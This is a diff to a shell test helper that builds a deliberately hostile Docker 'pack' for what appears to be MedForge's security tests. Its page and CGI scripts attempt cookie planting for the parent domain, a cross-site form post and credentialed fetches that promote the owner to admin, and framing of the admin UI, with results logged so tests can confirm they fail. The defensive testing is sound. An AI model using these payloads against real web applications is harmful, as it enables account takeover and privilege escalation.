@@ -99,8 +99,10 @@ SH
     >"$ctx/Dockerfile.ws"
   docker build -q -f "$ctx/Dockerfile.ws" -t "${TEST_PACK_IMAGE%:*}:ws" "$ctx" >/dev/null \
     || die "could not build ${TEST_PACK_IMAGE%:*}:ws"
+  ensure_hostile_pack "$ctx"
   rm -rf "$ctx"
   export MEDFORGE_TEST_PACK_IMAGE=$TEST_PACK_IMAGE
+  export MEDFORGE_TEST_HOSTILE_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:hostile
   export MEDFORGE_TEST_WS_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:ws
   export MEDFORGE_TEST_SILENT_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:silent
 }
@@ -113,4 +115,130 @@ clean_docker_test_leftovers() {
   [ -z "$ids" ] || docker rm -f $ids >/dev/null
   nets=$(docker network ls -q --filter name=mftest-)
   [ -z "$nets" ] || docker network rm $nets >/dev/null || true
+}
+
+# The hostile pack: the test pack whose pages are the attacker's
+# (docs/security.md). /cgi-bin/page is a page whose script, opened by
+# whoever opens the session (an admin), tries what a hostile owner would:
+# a same-site form post that promotes its owner, fetches with credentials
+# to the API and the admin pages, MedForge's cookie names planted for the
+# parent domain (by script, and by /cgi-bin/toss's Set-Cookie), reading
+# document.cookie, framing the UI. It reports each outcome to
+# /cgi-bin/report ("report:<what>=<value>" in `docker logs`), and every
+# CGI logs the Cookie header it was sent ("cookie:<header>"), so a test can
+# tell that no MedForge cookie ever reached the container.
+ensure_hostile_pack() {
+  local ctx=$1/hostile
+  mkdir -p "$ctx/www/cgi-bin"
+  cat >"$ctx/www/cgi-bin/page" <<'CGI'
+#!/bin/sh
+echo "cookie:$HTTP_COOKIE" >&2
+printf 'Content-Type: text/html\r\n\r\n'
+cat /www/attack.html
+CGI
+  cat >"$ctx/www/cgi-bin/report" <<'CGI'
+#!/bin/sh
+echo "cookie:$HTTP_COOKIE" >&2
+echo "report:$QUERY_STRING" >&2
+printf 'Content-Type: text/plain\r\n\r\nok\n'
+CGI
+  cat >"$ctx/www/cgi-bin/toss" <<'CGI'
+#!/bin/sh
+echo "cookie:$HTTP_COOKIE" >&2
+domain=${HTTP_HOST#*.*.}
+domain=${domain%%:*}
+printf 'Content-Type: text/plain\r\n'
+printf 'Set-Cookie: medforge_session=tossed; Domain=%s; Path=/\r\n' "$domain"
+printf 'Set-Cookie: MedForge_Session=tossed; Path=/\r\n'
+printf 'Set-Cookie: medforge_pass=tossed; Path=/\r\n'
+printf 'Set-Cookie: __Host-medforge_session=tossed; Secure; Path=/\r\n'
+printf 'Set-Cookie: own_cookie=kept; Path=/\r\n'
+printf '\r\ntossed\n'
+CGI
+  chmod 755 "$ctx/www/cgi-bin/"*
+  cat >"$ctx/www/attack.html" <<'HTML'
+<!doctype html>
+<html><head><meta charset="utf-8"><title>can you look at my error?</title></head>
+<body><h1>My notebook fails, can you look?</h1>
+<iframe name="sink" title="sink"></iframe>
+<script>
+(async () => {
+  const q = new URLSearchParams(location.search);
+  const ui = q.get("ui"), owner = q.get("owner");
+  const report = (what, value) =>
+    fetch("/cgi-bin/report?" + new URLSearchParams({ what, value: String(value).slice(0, 300) }));
+  const attempt = async (what, f) => {
+    try { await report(what, await f()); } catch (e) { await report(what, "blocked: " + e); }
+  };
+  await report("document.cookie", document.cookie);
+  // Plant MedForge's cookie names for the parent domain, by script.
+  const base = new URL(ui).hostname;
+  for (const name of ["medforge_session", "medforge_pass", "__Host-medforge_session"]) {
+    document.cookie = name + "=planted; domain=" + base + "; path=/";
+    document.cookie = name + "=planted; domain=" + base + "; path=/admin";
+  }
+  // And through the proxy, by Set-Cookie.
+  await attempt("toss", async () => (await fetch("/cgi-bin/toss")).status);
+  await report("document.cookie after", document.cookie);
+  // The same-site form post that makes the owner an admin.
+  const form = document.createElement("form");
+  form.method = "post";
+  form.action = ui + "/admin/users/" + owner;
+  form.target = "sink";
+  for (const [k, v] of Object.entries({ role: "admin", can_use_internal: "true", max_concurrent_sessions: "8", quota: "" })) {
+    const i = document.createElement("input");
+    i.name = k; i.value = v; form.appendChild(i);
+  }
+  document.body.appendChild(form);
+  form.submit();
+  await new Promise((r) => setTimeout(r, 1500));
+  // Fetches with the visitor's credentials.
+  await attempt("fetch me", async () => {
+    const r = await fetch(ui + "/api/v2/me", { credentials: "include" });
+    return r.status + " " + (await r.text());
+  });
+  await attempt("fetch admin page", async () => {
+    const r = await fetch(ui + "/admin/users", { credentials: "include" });
+    return r.status + " " + (await r.text());
+  });
+  await attempt("fetch patch", async () => {
+    const r = await fetch(ui + "/api/v2/admin/users/" + owner, {
+      method: "PATCH", credentials: "include",
+      headers: { "Content-Type": "application/json" }, body: JSON.stringify({ role: "admin" }),
+    });
+    return r.status;
+  });
+  await attempt("no-cors form post", async () => {
+    await fetch(ui + "/admin/users/" + owner, {
+      method: "POST", mode: "no-cors", credentials: "include",
+      body: new URLSearchParams({ role: "admin", can_use_internal: "true", max_concurrent_sessions: "8", quota: "" }),
+    });
+    return "sent";
+  });
+  await attempt("no-cors api post", async () => {
+    await fetch(ui + "/api/v2/admin/users/" + owner, {
+      method: "POST", mode: "no-cors", credentials: "include",
+      headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ role: "admin" }),
+    });
+    return "sent";
+  });
+  // Framing the UI.
+  await new Promise((resolve) => {
+    const f = document.createElement("iframe");
+    f.title = "framed";
+    f.onload = async () => {
+      await attempt("frame", async () => (f.contentDocument && f.contentDocument.body ? "readable: " + f.contentDocument.body.innerText : "opaque"));
+      resolve();
+    };
+    f.src = ui + "/admin";
+    document.body.appendChild(f);
+    setTimeout(resolve, 5000);
+  });
+  await report("done", "1");
+})();
+</script></body></html>
+HTML
+  printf 'FROM %s\nCOPY www /www\n' "$TEST_PACK_IMAGE" >"$ctx/Dockerfile"
+  docker build -q -t "${TEST_PACK_IMAGE%:*}:hostile" "$ctx" >/dev/null \
+    || die "could not build ${TEST_PACK_IMAGE%:*}:hostile"
 }
